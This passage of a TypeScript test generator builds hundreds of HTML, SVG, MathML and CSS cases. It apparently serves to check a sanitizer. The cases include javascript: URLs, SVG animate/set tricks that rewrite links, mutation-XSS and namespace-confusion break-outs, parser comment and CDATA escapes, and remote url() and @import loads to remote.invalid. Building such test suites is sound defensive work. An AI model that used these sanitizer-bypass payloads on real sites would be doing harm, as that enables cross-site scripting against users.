  ['http-refs', '&#104;ttp&#58;//remote&#46;invalid/@', 'remote http: as references', 'load'],
  ['https-no-slashes', 'https:remote.invalid/@', 'https: without slashes', 'load'],
];

/** Other elements carrying the same attributes, with two or three schemes each. */
const MORE_URL_HOSTS: [string, Context, (value: string) => string][] = [
  [
    'area-href',
    'navigate',
    (v) =>
      `<map name="m"><area shape="default" href="${v}"></map><img usemap="#m" src="${GIF}" width="20" height="20">`,
  ],
  ['svg-a-href', 'navigate', (v) => `<svg><a href="${v}"><text y="20">link</text></a></svg>`],
  ['math-href', 'navigate', (v) => `<math><mi href="${v}">link</mi></math>`],
  [
    'math-mtext-href',
    'navigate',
    (v) => `<math><mrow href="${v}"><mtext>link</mtext></mrow></math>`,
  ],
  ['base-href', 'navigate', (v) => `<base href="${v}"><a href="x">link</a><img src="x.png">`],
  [
    'button-form-formaction',
    'navigate',
    (v) => `<form id="f"></form><button form="f" formaction="${v}">Send</button>`,
  ],
  [
    'input-formaction',
    'navigate',
    (v) => `<form><input type="submit" formaction="${v}" value="Send"></form>`,
  ],
  ['isindex-action', 'navigate', (v) => `<isindex action="${v}">`],
  ['iframe-src', 'load', (v) => `<iframe src="${v}"></iframe>`],
  ['frame-src', 'load', (v) => `<frameset><frame src="${v}"></frameset>`],
  ['embed-src', 'load', (v) => `<embed src="${v}">`],
  ['video-src', 'load', (v) => `<video src="${v}" autoplay muted></video>`],
  ['audio-src', 'load', (v) => `<audio src="${v}" autoplay></audio>`],
  ['source-src', 'load', (v) => `<video autoplay muted><source src="${v}"></video>`],
  ['source-srcset', 'load', (v) => `<picture><source srcset="${v}"><img src="${GIF}"></picture>`],
  ['track-src', 'load', (v) => `<video><track default src="${v}"></video>`],
  ['input-src', 'load', (v) => `<input type="image" src="${v}">`],
  ['script-src', 'load', (v) => `<script src="${v}"></script>`],
  ['svg-image-href', 'load', (v) => `<svg><image href="${v}" width="10" height="10"/></svg>`],
  [
    'svg-feimage-href',
    'load',
    (v) =>
      `<svg><filter id="f"><feImage href="${v}"/></filter><rect filter="url(#f)" width="10" height="10"/></svg>`,
  ],
  ['svg-use-href', 'load', (v) => `<svg><use href="${v}#x"/></svg>`],
  ['svg-script-href', 'load', (v) => `<svg><script href="${v}"></script></svg>`],
  ['link-href', 'load', (v) => `<link rel="stylesheet" href="${v}"><p>x</p>`],
  ['img-lowsrc', 'load', (v) => `<img lowsrc="${v}" src="${GIF}">`],
  ['img-dynsrc', 'load', (v) => `<img dynsrc="${v}" src="${GIF}">`],
  ['image-src', 'load', (v) => `<image src="${v}">`],
  ['body-background', 'load', (v) => `<body background="${v}">x</body>`],
  ['td-background', 'load', (v) => `<table><tr><td background="${v}">x</td></tr></table>`],
  ['html-manifest', 'load', (v) => `<html manifest="${v}"><body>x</body></html>`],
  [
    'menuitem-icon',
    'load',
    (v) => `<menu type="context"><menuitem icon="${v}">x</menuitem></menu>`,
  ],
  ['object-codebase', 'load', (v) => `<object codebase="${v}" classid="x"></object>`],
  ['applet-code', 'load', (v) => `<applet code="x" codebase="${v}"></applet>`],
  ['svg-background', 'load', (v) => `<svg background="${v}" width="10" height="10"></svg>`],
  ['mi-background', 'load', (v) => `<math><mi background="${v}">x</mi></math>`],
  ['svg-image-src', 'load', (v) => `<svg><image src="${v}" width="10" height="10"/></svg>`],
];

const REMOTE_PICKS = ['http', 'protocol-relative', 'backslashes', 'https-upper'];
const MAIN_SCRIPT = new Set(['javascript', 'javascript-decimal-refs', 'vbscript', 'data-html']);
/** Loading elements whose URL could also navigate or run script: they get javascript: too. */
const SCRIPT_HOSTS = new Set([
  'iframe-src',
  'frame-src',
  'embed-src',
  'script-src',
  'svg-script-href',
  'svg-use-href',
  'link-href',
]);

function urlSchemes(): void {
  for (const [attribute, context, markup] of URL_ATTRIBUTES) {
    for (const [slug, value, what, applies] of SCHEMES) {
      if (applies !== 'both' && applies !== context) continue;
      // Attributes that only ever load a picture get the main script spellings only.
      if (/^(poster|background|srcset|style-url)$/.test(attribute) && !MAIN_SCRIPT.has(slug)) {
        continue;
      }
      // The rarer spellings of a remote URL on the two most common carriers only.
      if (/^(http-refs|https-no-slashes)$/.test(slug) && !/^(src|style-url)$/.test(attribute)) {
        continue;
      }
      add(
        'url-scheme',
        `${attribute}.${slug}`,
        `${attribute} with ${what}`,
        markup(value.replace('@', `url-${attribute}-${slug}.png`)),
      );
    }
  }
  MORE_URL_HOSTS.forEach(([host, context, markup], index) => {
    const picks =
      context === 'navigate'
        ? ['javascript', index % 2 ? 'data-html' : 'javascript-tab-newline']
        : [
            ...(SCRIPT_HOSTS.has(host) ? ['javascript'] : []),
            REMOTE_PICKS[index % REMOTE_PICKS.length] ?? 'http',
          ];
    for (const pick of picks) {
      const [slug, value, what] = SCHEMES.find(([name]) => name === pick) ?? SCHEMES[0]!;
      add(
        'url-scheme',
        `${host}.${slug}`,
        `${host} with ${what}`,
        markup(value.replace('@', `url-${host}-${slug}.png`)),
      );
    }
  });
}

// ---------------------------------------------------------------------------------------------
// SVG animation: animate/set/animateTransform/animateMotion rewriting links and resources.

function svgAnimation(): void {
  const link = (animation: string) =>
    `<svg xmlns:xlink="http://www.w3.org/1999/xlink"><a>${animation}<text x="10" y="20">click</text></a></svg>`;
  const names: [string, string][] = [
    ['href', 'href'],
    ['xlink-href', 'xlink:href'],
    ['upper', 'HREF'],
    ['padded', '  href  '],
    ['xlink-upper', 'XLINK:HREF'],
    ['entity', '&#x68;ref'],
    ['prefix-x', 'x:href'],
  ];
  for (const element of ['animate', 'set']) {
    for (const [slug, name] of names) {
      const value =
        element === 'set' ? `to="javascript:alert(1)"` : `values="javascript:alert(1)" dur="1s"`;
      const extra = slug === 'prefix-x' ? ' xmlns:x="http://www.w3.org/1999/xlink"' : '';
      add(
        'svg-animation',
        `${element}.${slug}`,
        `<${element}> with attributeName="${name}" to a javascript: link`,
        link(`<${element}${extra} attributeName="${name}" ${value} fill="freeze"/>`),
      );
    }
  }
  const more: [string, string, string][] = [
    [
      'animate-from-to',
      'animate from/to/by',
      link(
        '<animate attributeName="href" from="#" to="javascript:alert(1)" by="1" dur="1s" fill="freeze"/>',
      ),
    ],
    [
      'animate-discrete',
      'discrete values with keyTimes',
      link(
        '<animate attributeName="href" calcMode="discrete" keyTimes="0;0.5" values="#;javascript:alert(1)" dur="1s" fill="freeze"/>',
      ),
    ],
    [
      'animate-attributetype-xml',
      'attributeType="XML"',
      link(
        '<animate attributeType="XML" attributeName="xlink:href" values="javascript:alert(1)" dur="1s"/>',
      ),
    ],
    [
      'animate-attributetype-css',
      'attributeType="CSS" on href',
      link(
        '<animate attributeType="CSS" attributeName="href" values="javascript:alert(1)" dur="1s"/>',
      ),
    ],
    [
      'animate-indefinite',
      'repeating forever',
      link(
        '<animate attributeName="href" values="javascript:alert(1);javascript:top.__xss=1" dur="0.1s" repeatCount="indefinite"/>',
      ),
    ],
    [
      'animate-begin-click',
      'begin on click',
      link('<animate attributeName="href" begin="click" to="javascript:alert(1)" dur="10s"/>'),
    ],
    [
      'animate-target-href',
      'targeting a link by href="#id"',
      '<svg><a id="t"><text y="20">x</text></a><animate href="#t" attributeName="href" values="javascript:alert(1)" dur="1s"/></svg>',
    ],
    [
      'animate-target-xlink',
      'targeting a link by xlink:href="#id"',
      '<svg xmlns:xlink="http://www.w3.org/1999/xlink"><a id="t"><text y="20">x</text></a><set xlink:href="#t" attributeName="xlink:href" to="javascript:alert(1)"/></svg>',
    ],
    [
      'set-target-outside',
      'set outside the svg it targets',
      '<svg><a id="t2"><text y="20">x</text></a></svg><svg><set href="#t2" attributeName="href" to="javascript:top.__xss=1"/></svg>',
    ],
    [
      'set-onclick',
      'set adds onclick',
      '<svg><rect width="50" height="50"><set attributeName="onclick" to="alert(1)"/></rect></svg>',
    ],
    [
      'set-onload',
      'set adds onload to the svg',
      '<svg><set attributeName="onload" to="top.__xss=1"/></svg>',
    ],
    [
      'animate-onmouseover',
      'animate adds onmouseover',
      '<svg><rect width="50" height="50"><animate attributeName="onmouseover" values="alert(1)" dur="1s" fill="freeze"/></rect></svg>',
    ],
    [
      'image-href',
      'animate rewrites an image href to a remote picture',
      '<svg><image width="10" height="10"><animate attributeName="href" values="http://remote.invalid/anim-image.png" dur="1s" fill="freeze"/></image></svg>',
    ],
    [
      'image-xlink-set',
      'set rewrites an image xlink:href',
      '<svg xmlns:xlink="http://www.w3.org/1999/xlink"><image width="10" height="10"><set attributeName="xlink:href" to="//remote.invalid/set-image.png"/></image></svg>',
    ],
    [
      'feimage-href',
      'animate rewrites an feImage href',
      '<svg><filter id="f"><feImage><animate attributeName="href" values="http://remote.invalid/anim-feimage.png" dur="1s" fill="freeze"/></feImage></filter><rect filter="url(#f)" width="10" height="10"/></svg>',
    ],
    [
      'use-href',
      'set rewrites a use href to a data: document',
      `<svg><use><set attributeName="href" to="data:image/svg+xml;base64,${base64('<svg id="x" xmlns="http://www.w3.org/2000/svg"><image href="x" onerror="alert(1)"/></svg>')}#x"/></use></svg>`,
    ],
    [
      'use-remote',
      'animate rewrites a use href to a remote document',
      '<svg><use><animate attributeName="href" values="http://remote.invalid/anim-use.svg#a" dur="1s" fill="freeze"/></use></svg>',
    ],
    [
      'fill-url',
      'animate fill to a remote paint server',
      '<svg><rect width="10" height="10"><animate attributeName="fill" values="url(http://remote.invalid/anim-fill.svg#a)" dur="1s" fill="freeze"/></rect></svg>',
    ],
    [
      'filter-url',
      'set filter to a remote filter',
      '<svg><rect width="10" height="10"><set attributeName="filter" to="url(//remote.invalid/set-filter.svg#f)"/></rect></svg>',
    ],
    [
      'mask-image-set',
      'set mask to an image-set()',
      '<svg><rect width="10" height="10"><set attributeName="mask" to="image-set(\'http://remote.invalid/set-mask.png\' 1x)"/></rect></svg>',
    ],
    [
      'style-background',
      'animate the style attribute',
      '<svg><rect width="10" height="10"><animate attributeName="style" values="background:url(http://remote.invalid/anim-style.png)" dur="1s" fill="freeze"/></rect></svg>',
    ],
    [
      'animatetransform-begin',
      'animateTransform with onbegin and onrepeat',
      '<svg><rect width="10" height="10"><animateTransform attributeName="transform" type="rotate" to="90" dur="0.1s" repeatCount="2" onbegin="alert(1)" onrepeat="top.__xss=1"/></rect></svg>',
    ],
    [
      'animatetransform-href',
      'animateTransform retargeted at href',
      link(
        '<animateTransform attributeName="href" type="translate" values="javascript:alert(1)" dur="1s"/>',
      ),
    ],
    [
      'animatemotion-mpath',
      'animateMotion with a remote mpath',
      '<svg xmlns:xlink="http://www.w3.org/1999/xlink"><rect width="5" height="5"><animateMotion dur="1s"><mpath xlink:href="http://remote.invalid/mpath.svg#p"/></animateMotion></rect></svg>',
    ],
    [
      'animatemotion-onend',
      'animateMotion onend',
      '<svg><rect width="5" height="5"><animateMotion path="M0 0H10" dur="0.01s" onend="alert(1)"/></rect></svg>',
    ],
    [
      'animatecolor',
      'animateColor on href',
      link('<animateColor attributeName="href" values="javascript:alert(1)" dur="1s"/>'),
    ],
    [
      'discard-begin',
      'discard with onbegin',
      '<svg><rect id="d" width="5" height="5"/><discard href="#d" begin="0s" onbegin="top.__xss=1"/></svg>',
    ],
    [
      'set-in-math',
      'set inside an svg inside MathML',
      '<math><mi><svg><a><set attributeName="href" to="javascript:alert(1)"/><text y="20">x</text></a></svg></mi></math>',
    ],
    [
      'animate-inside-text',
      'animate inside the link text',
      '<svg><a><text y="20">x<animate attributeName="href" values="javascript:alert(1)" dur="1s"/></text></a></svg>',
    ],
  ];
  for (const [slug, title, html] of more) add('svg-animation', slug, title, html);
}

// ---------------------------------------------------------------------------------------------
// FuncIRI url() in SVG presentation attributes, and feImage.

function svgFuncIri(): void {
  const properties = [
    'fill',
    'stroke',
    'filter',
    'mask',
    'clip-path',
    'marker-start',
    'marker-mid',
    'marker-end',
  ];
  const forms: [string, (url: string) => string][] = [
    ['quoted', (u) => `url(&quot;${u}&quot;)`],
    ['single-quoted-spaces', (u) => `url( '${u}' )`],
    // A fallback colour is valid for paint (fill, stroke) only.
    ['fallback-color', (u) => `url(${u}) red`],
  ];
  for (const property of properties) {
    const paint = property === 'fill' || property === 'stroke';
    const skip = paint ? 'single-quoted-spaces' : 'fallback-color';
    for (const [slug, form] of forms.filter(([name]) => name !== skip)) {
      const url =
        slug === 'single-quoted-spaces'
          ? `//remote.invalid/funciri-${property}-${slug}.svg#a`
          : remote(`funciri-${property}-${slug}.svg#a`);
      add(
        'svg-funciri',
        `${property}.${slug}`,
        `${property}="url()" ${slug.replace(/-/g, ' ')}`,
        `<svg><path d="M0 0L10 10" stroke-width="2" ${property}="${form(url)}"/></svg>`,
      );
    }
  }
  const more: [string, string, string][] = [
    [
      'mask-image-set',
      'mask attribute with image-set() (a string, no url())',
      `<svg><rect width="10" height="10" mask="image-set('http://remote.invalid/mask-image-set.png' 1x)"/></svg>`,
    ],
    [
      'mask-image-set-type',
      'mask attribute with image-set() and type()',
      `<svg><rect width="10" height="10" mask="image-set(&quot;//remote.invalid/mask-image-set-type.png&quot; type('image/png'))"/></svg>`,
    ],
    [
      'mask-webkit-image-set',
      'mask attribute with -webkit-image-set(url())',
      '<svg><rect width="10" height="10" mask="-webkit-image-set(url(http://remote.invalid/mask-webkit-image-set.png) 1x)"/></svg>',
    ],
    [
      'mask-cross-fade',
      'mask attribute with -webkit-cross-fade()',
      `<svg><rect width="10" height="10" mask="-webkit-cross-fade(url(#a), image-set('http://remote.invalid/mask-cross-fade.png' 1x), 50%)"/></svg>`,
    ],
    [
      'mask-escaped-image-set',
      'mask attribute with an escaped image-set()',
      `<svg><rect width="10" height="10" mask="im\\61ge-set('http://remote.invalid/mask-escaped.png' 1x)"/></svg>`,
    ],
    [
      'mask-layers',
      'mask attribute with a second layer',
      '<svg><rect width="10" height="10" mask="url(#a), url(http://remote.invalid/mask-layers.png)"/></svg>',
    ],
    [
      'fill-javascript',
      'fill with a javascript: url()',
      '<svg><rect width="10" height="10" fill="url(javascript:alert(1))"/></svg>',
    ],
    [
      'fill-data-svg',
      'fill with a data: SVG paint server',
      `<svg><rect width="10" height="10" fill="url(data:image/svg+xml;base64,${base64('<svg xmlns="http://www.w3.org/2000/svg"><linearGradient id="a"/><script>alert(1)</script></svg>')}#a)"/></svg>`,
    ],
    [
      'fill-upper',
      'URL() in upper case',
      '<svg><rect width="10" height="10" fill="URL(http://remote.invalid/funciri-upper.svg#a)"/></svg>',
    ],
    [
      'fill-comment',
      'comment inside url',
      '<svg><rect width="10" height="10" fill="u/**/rl(http://remote.invalid/funciri-comment.svg#a)"/></svg>',
    ],
    [
      'fill-escaped-parens',
      'escaped parenthesis',
      '<svg><rect width="10" height="10" fill="url\\28 http://remote.invalid/funciri-paren.svg#a)"/></svg>',
    ],
    [
      'fill-newline',
      'newline inside url()',
      '<svg><rect width="10" height="10" fill="url(&quot;http://remote.invalid/funciri-\nnewline.svg#a&quot;)"/></svg>',
    ],
    [
      'fill-hash-then-remote',
      'fragment first, remote inside the string',
      '<svg><rect width="10" height="10" fill="url(&quot;#a&quot;) url(&quot;http://remote.invalid/funciri-second.svg#b&quot;)"/></svg>',
    ],
    [
      'clip-path-backslashes',
      'clip-path with backslashes',
      '<svg><rect width="10" height="10" clip-path="url(\\\\remote.invalid/funciri-bs.svg#a)"/></svg>',
    ],
    [
      'color-profile',
      'color-profile url()',
      '<svg><rect width="10" height="10" color-profile="url(http://remote.invalid/funciri-profile.icc)"/></svg>',
    ],
    [
      'cursor',
      'cursor attribute url()',
      '<svg><rect width="10" height="10" cursor="url(http://remote.invalid/funciri-cursor.png),auto"/></svg>',
    ],
    [
      'style-mask-image-set',
      'mask: image-set() in a style attribute',
      `<svg><rect width="10" height="10" style="mask:image-set('http://remote.invalid/style-mask.png' 1x)"/></svg>`,
    ],
    [
      'style-marker',
      'marker in a style attribute',
      '<svg><path d="M0 0L9 9" style="marker:url(http://remote.invalid/style-marker.svg#m)"/></svg>',
    ],
    [
      'sheet-fill',
      'fill from a style sheet',
      '<style>rect{fill:url(http://remote.invalid/sheet-fill.svg#a)}</style><svg><rect width="10" height="10"/></svg>',
    ],
    [
      'sheet-mask',
      'mask from a style sheet',
      '<style>rect{mask:image-set(\'http://remote.invalid/sheet-mask.png\' 1x)}</style><svg><rect width="10" height="10"/></svg>',
    ],
  ];
  for (const [slug, title, html] of more) add('svg-funciri', slug, title, html);

  const feImage: [string, string, string][] = [
    [
      'href-spaces',
      'feImage href with spaces',
      '<svg><filter id="f"><feImage href="  http://remote.invalid/fe-spaces.png  "/></filter><rect filter="url(#f)" width="5" height="5"/></svg>',
    ],
    [
      'href-upper',
      'feImage HTTP: in upper case',
      '<svg><filter id="f"><feImage href="HTTP://REMOTE.INVALID/fe-upper.png"/></filter><rect filter="url(#f)" width="5" height="5"/></svg>',
    ],
    [
      'href-refs',
      'feImage href as references',
      '<svg><filter id="f"><feImage href="&#104;ttp://remote.invalid/fe-refs.png"/></filter><rect filter="url(#f)" width="5" height="5"/></svg>',
    ],
    [
      'xlink-protocol-relative',
      'feImage xlink:href protocol-relative',
      '<svg xmlns:xlink="http://www.w3.org/1999/xlink"><filter id="f"><feImage xlink:href="//remote.invalid/fe-pr.png"/></filter><rect filter="url(#f)" width="5" height="5"/></svg>',
    ],
    [
      'javascript',
      'feImage href javascript:',
      '<svg><filter id="f"><feImage href="javascript:alert(1)"/></filter><rect filter="url(#f)" width="5" height="5"/></svg>',
    ],
    [
      'data-html',
      'feImage href data:text/html',
      '<svg><filter id="f"><feImage href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;"/></filter><rect filter="url(#f)" width="5" height="5"/></svg>',
    ],
    [
      'in-merge',
      'feImage in a merge chain',
      '<svg><filter id="f"><feImage href="http://remote.invalid/fe-merge.png" result="i"/><feMerge><feMergeNode in="i"/><feMergeNode in="SourceGraphic"/></feMerge></filter><rect filter="url(#f)" width="5" height="5"/></svg>',
    ],
    [
      'css-filter',
      'feImage filter applied to HTML by CSS',
      '<svg width="0" height="0"><filter id="hf"><feImage href="http://remote.invalid/fe-css.png"/></filter></svg><p style="filter:url(#hf)">x</p>',
    ],
    [
      'both-attributes',
      'feImage with href and xlink:href',
      '<svg xmlns:xlink="http://www.w3.org/1999/xlink"><filter id="f"><feImage href="cid:a" xlink:href="http://remote.invalid/fe-both.png"/></filter><rect filter="url(#f)" width="5" height="5"/></svg>',
    ],
    [
      'filter-href',
      'filter inheriting a remote filter',
      '<svg><filter id="f" href="http://remote.invalid/filter-href.svg#g"/><rect filter="url(#f)" width="5" height="5"/></svg>',
    ],
  ];
  for (const [slug, title, html] of feImage) add('svg-funciri', `feimage.${slug}`, title, html);

  const hrefs: [string, string, string][] = [
    [
      'lineargradient',
      'linearGradient inheriting a remote gradient',
      '<svg><linearGradient id="g" href="http://remote.invalid/gradient.svg#h"/><rect fill="url(#g)" width="5" height="5"/></svg>',
    ],
    [
      'radialgradient-xlink',
      'radialGradient xlink:href remote',
      '<svg xmlns:xlink="http://www.w3.org/1999/xlink"><radialGradient id="g" xlink:href="//remote.invalid/radial.svg#h"/><rect fill="url(#g)" width="5" height="5"/></svg>',
    ],
    [
      'textpath-xlink',
      'textPath xlink:href remote',
      '<svg xmlns:xlink="http://www.w3.org/1999/xlink"><text><textPath xlink:href="http://remote.invalid/textpath.svg#p">x</textPath></text></svg>',
    ],
    [
      'tref',
      'tref xlink:href remote',
      '<svg xmlns:xlink="http://www.w3.org/1999/xlink"><text><tref xlink:href="http://remote.invalid/tref.svg#t"/></text></svg>',
    ],
    [
      'altglyph',
      'altGlyph xlink:href remote',
      '<svg xmlns:xlink="http://www.w3.org/1999/xlink"><text><altGlyph xlink:href="http://remote.invalid/glyph.svg#g">x</altGlyph></text></svg>',
    ],
    [
      'cursor-element',
      'cursor element href remote',
      '<svg><cursor href="http://remote.invalid/cursor-el.png"/></svg>',
    ],
    [
      'font-face-uri',
      'font-face-uri remote',
      '<svg><font-face font-family="x"><font-face-src><font-face-uri href="http://remote.invalid/font.svg#f"/></font-face-src></font-face></svg>',
    ],
    [
      'use-xlink',
      'use xlink:href remote',
      '<svg xmlns:xlink="http://www.w3.org/1999/xlink"><use xlink:href="http://remote.invalid/use-xlink.svg#a"/></svg>',
    ],
    [
      'image-xml-base',
      'image with xml:base remote',
      '<svg><image xml:base="http://remote.invalid/" href="xml-base.png" width="5" height="5"/></svg>',
    ],
    [
      'a-target',
      'svg link to javascript: with target',
      '<svg><a href="javascript:alert(1)" target="_top"><text y="20">x</text></a></svg>',
    ],
    [
      'a-xlink-refs',
      'svg link xlink:href as references',
      '<svg xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="&#x6A;avascript:alert(1)"><text y="20">x</text></a></svg>',
    ],
    [
      'a-foreign-prefix',
      'svg link with another prefix for XLink',
      '<svg xmlns:l="http://www.w3.org/1999/xlink"><a l:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
    ],
    [
      'image-svg-remote-fragment',
      'image of a remote SVG fragment',
      '<svg><image href="http://remote.invalid/sprite.svg#frag" width="5" height="5"/></svg>',
    ],
  ];
  for (const [slug, title, html] of hrefs) add('svg', `href.${slug}`, title, html);
}

// ---------------------------------------------------------------------------------------------
// Namespace confusion and mutation-XSS shapes; CDATA/comment/processing-instruction break-outs.

function namespaceConfusion(): void {
  const img = '<img src=x onerror=alert(1)>';
  // An element's raw or escapable text that, once reparsed elsewhere, ends early.
  const containers = [
    'textarea',
    'title',
    'style',
    'script',
    'noscript',
    'xmp',
    'iframe',
    'noembed',
  ];
  for (const container of containers) {
    for (const [space, open, close] of [
      ['html', '', ''],
      ['svg', '<svg>', '</svg>'],
      ['math', '<math>', '</math>'],
    ] as const) {
      add(
        'namespace-confusion',
        `${space}.${container}.title-breakout`,
        `${space === 'html' ? '' : `${space} `}${container}: a title that closes it`,
        `${open}<${container}><p title="</${container}>${img}">${close}`,
      );
    }
  }
  const points: [string, string, string][] = [
    [
      'mtext-style',
      'mtext (MathML text point) holding a style',
      `<math><mtext><style>${img}</style></mtext></math>`,
    ],
    ['mi-textarea', 'mi holding a textarea', `<math><mi><textarea>${img}</textarea></mi></math>`],
    [
      'mo-noscript',
      'mo holding a noscript',
      `<math><mo><noscript><p title="</noscript>${img}"></noscript></mo></math>`,
    ],
    [
      'annotation-xml-xhtml',
      'annotation-xml as application/xhtml+xml',
      `<math><annotation-xml encoding="application/xhtml+xml"><style>${img}</style></annotation-xml></math>`,
    ],
    [
      'annotation-xml-svg',
      'annotation-xml holding svg',
      `<math><annotation-xml encoding="image/svg+xml"><svg><style><a title="</style>${img}"></style></svg></annotation-xml></math>`,
    ],
    [
      'annotation-xml-upper',
      'annotation-xml encoding in upper case',
      `<math><annotation-xml encoding="TEXT/HTML"><iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe></annotation-xml></math>`,
    ],
    [
      'foreignobject-style',
      'foreignObject holding a style',
      `<svg><foreignObject><style>${img}</style></foreignObject></svg>`,
    ],
    [
      'desc-textarea',
      'svg desc holding a textarea',
      `<svg><desc><textarea>${img}</textarea></desc></svg>`,
    ],
    [
      'title-noscript',
      'svg title holding a noscript',
      `<svg><title><noscript><p title="</noscript>${img}"></noscript></title></svg>`,
    ],
    [
      'mglyph-malignmark',
      'malignmark in a table in mtext',
      `<math><mtext><table><malignmark><style>${img}</style></malignmark></table></mtext></math>`,
    ],
    [
      'mglyph-svg-mtext',
      'mglyph svg mtext style',
      `<math><mtext><table><mglyph><svg><mtext><style><path id="</style>${img}">`,
    ],
    [
      'h1-adoption-mglyph',
      'misnested headings around mglyph',
      `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style>${img}"></style></h1>`,
    ],
    [
      'malignmark-svg-style',
      'mi malignmark svg style',
      `<math><mi><malignmark><svg><style><a title="</style>${img}">`,
    ],
    [
      'mglyph-textarea',
      'mglyph then textarea',
      `<math><mi><mglyph><textarea><a title="</textarea>${img}">`,
    ],
    [
      'form-nesting',
      'nested forms around svg and mtext',
      `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>${img}">`,
    ],
    [
      'table-form',
      'form misnested in a table',
      `<table><form><tr><td><svg><style><a title="</style>${img}"></style></svg></td></tr></form></table>`,
    ],
    ['svg-b-breakout', 'b start tag breaks out of svg', `<svg><b><style>${img}</style></b></svg>`],
    ['svg-br-end', 'end tag br breaks out of svg', `<svg></br><style>${img}</style></svg>`],
    [
      'math-font-breakout',
      'font with face breaks out of MathML',
      `<math><font face="x"><style>${img}</style></font></math>`,
    ],
    [
      'svg-font-size',
      'font with size breaks out of svg',
      `<svg><font size="1"><textarea>${img}</textarea></font></svg>`,
    ],
    [
      'math-table-breakout',
      'table inside MathML',
      `<math><table><style>${img}</style></table></math>`,
    ],
    ['select-style', 'style in a select', `<select><style>${img}</style></select>`],
    [
      'select-template',
      'template in a select',
      `<select><template><style></template>${img}</style></select>`,
    ],
    [
      'select-div-style',
      'div and style in a customizable select',
      `<select><div><style><a title="</style>${img}"></style></div><option>x</option></select>`,
    ],
    [
      'noscript-style',
      'style in noscript',
      `<noscript><style></noscript>${img}</style></noscript>`,
    ],
    ['template-svg', 'svg in template then markup', `<template><svg></template>${img}</svg>`],
    [
      'table-svg-style',
      'svg in a table foster-parented',
      `<table><svg><style></table>${img}</style></svg></table>`,
    ],
    [
      'svg-xmlns-xhtml',
      'svg declaring the XHTML namespace with a style',
      `<svg xmlns="http://www.w3.org/1999/xhtml"><style>${img}</style></svg>`,
    ],
    [
      'math-xmlns-svg',
      'math declaring the SVG namespace',
      `<math xmlns="http://www.w3.org/2000/svg"><style>${img}</style></math>`,
    ],
    [
      'svg-in-math-in-svg',
      'svg inside math inside svg',
      `<svg><foreignObject><math><mi><svg><style><a title="</style>${img}"></style></svg></mi></math></foreignObject></svg>`,
    ],
    ['plaintext-svg', 'plaintext inside svg', `<svg><plaintext><a title="</plaintext>${img}">`],
    [
      'listing-newline',
      'leading newline in listing',
      `<listing>\n&lt;img src=x onerror=alert(1)&gt;</listing>`,
    ],
    [
      'textarea-svg-title',
      'svg title closing a textarea',
      `<textarea><svg><title></textarea>${img}</title></svg></textarea>`,
    ],
    [
      'style-svg-reentry',
      'svg style with CDATA',
      `<svg><style><![CDATA[</style>${img}]]></style></svg>`,
    ],
  ];
  for (const [slug, title, html] of points) add('namespace-confusion', slug, title, html);
}

function parserBreakouts(): void {
  const img = '<img src=x onerror=alert(1)>';
  const shapes: [string, string, string][] = [
    ['abrupt-empty-comment', 'comment closed at once by <!-->', `<!-->${img}-->`],
    ['abrupt-comment-dash', 'comment closed at once by <!--->', `<!--->${img}-->`],
    ['bang-close', 'comment closed by --!>', `<!-- --!>${img}-->`],
    ['nested-comment', 'nested comment opener', `<!--<!-->${img}-->`],
    ['conditional-comment', 'conditional comment', `<!--[if IE]>${img}<![endif]-->`],
    ['downlevel-revealed', 'downlevel-revealed conditional', `<![if !IE]>${img}<![endif]>`],
    ['cdata-in-html', 'CDATA in HTML is a bogus comment', `<![CDATA[>${img}]]>`],
    ['cdata-in-svg', 'CDATA in svg hiding a closing tag', `<svg><![CDATA[</svg>${img}]]></svg>`],
    ['cdata-in-math', 'CDATA in MathML', `<math><mi><![CDATA[</mi>${img}]]></mi></math>`],
    [
      'cdata-svg-title',
      'CDATA in svg title',
      `<svg><title><![CDATA[</title>${img}]]></title></svg>`,
    ],
    ['pi-xml', 'XML declaration before markup', `<?xml version="1.0"?>${img}`],
    ['pi-bogus-attribute', 'processing instruction with > in an attribute', `<? x="?>${img}">`],
    [
      'pi-in-svg',
      'processing instruction in svg',
      `<svg><?x ?><image href=x onerror=alert(1) /></svg>`,
    ],
    [
      'pi-xml-stylesheet-remote',
      'xml-stylesheet PI to a remote sheet',
      '<?xml-stylesheet type="text/css" href="http://remote.invalid/pi.css"?><p>x</p>',
    ],
    ['bogus-end-tag', 'bogus end tag with a space', `</ x="${img}">${img}`],
    ['doctype-attribute', 'doctype with markup in it', `<!DOCTYPE x="${img}">${img}`],
    ['comment-in-style', 'comment in a style element', `<style><!--</style>${img}--></style>`],
    ['comment-in-xmp', 'comment in xmp', `<xmp><!--</xmp>${img}--></xmp>`],
    [
      'comment-attribute',
      'attribute holding a comment closer',
      `<p title="--&gt;&lt;img src=x onerror=alert(1)&gt;">x</p><!--<p title="-->${img}">-->`,
    ],
    [
      'svg-comment-attribute',
      'svg attribute holding a style closer',
      `<svg><p title="</style>${img}"></p></svg>`,
    ],
    ['end-tag-attributes', 'attributes on an end tag', `<p>x</p onmouseover=alert(1)>${img}`],
    [
      'null-in-tag',
      'replacement character in a tag name',
      `<i\u0000mg src=x onerror=alert(1)>${img}`,
    ],
    [
      'eof-in-attribute',
      'end of input inside an attribute',
      `<p>x</p><a href="javascript:alert(1)" title="`,
    ],
  ];
  for (const [slug, title, html] of shapes) add('parser-breakout', slug, title, html);
}

// ---------------------------------------------------------------------------------------------
// CSS.

function css(): void {
  const imports: [string, string, string][] = [
    [
      'string',
      '@import with a string',
      '<style>@import "http://remote.invalid/import-string.css";</style><p>x</p>',
    ],
    [
      'media',
      '@import with a media query',
      '<style>@import url(http://remote.invalid/import-media.css) screen;</style><p>x</p>',
    ],
    [
      'upper',
      '@IMPORT in upper case',
      "<style>@IMPORT 'http://remote.invalid/import-upper.css';</style><p>x</p>",
    ],
    [
      'layer',
      '@import into a layer',
      '<style>@import url(//remote.invalid/import-layer.css) layer(x);</style><p>x</p>',
    ],
    [
      'supports',
      '@import with supports()',
      '<style>@import url(http://remote.invalid/import-supports.css) supports(display:grid);</style><p>x</p>',
    ],
    [
      'comment-split',
      '@import split by a comment',
      '<style>@im/**/port "http://remote.invalid/import-comment.css";</style><p>x</p>',
    ],
    [
      'escaped-url',
      '@import with an escaped url()',
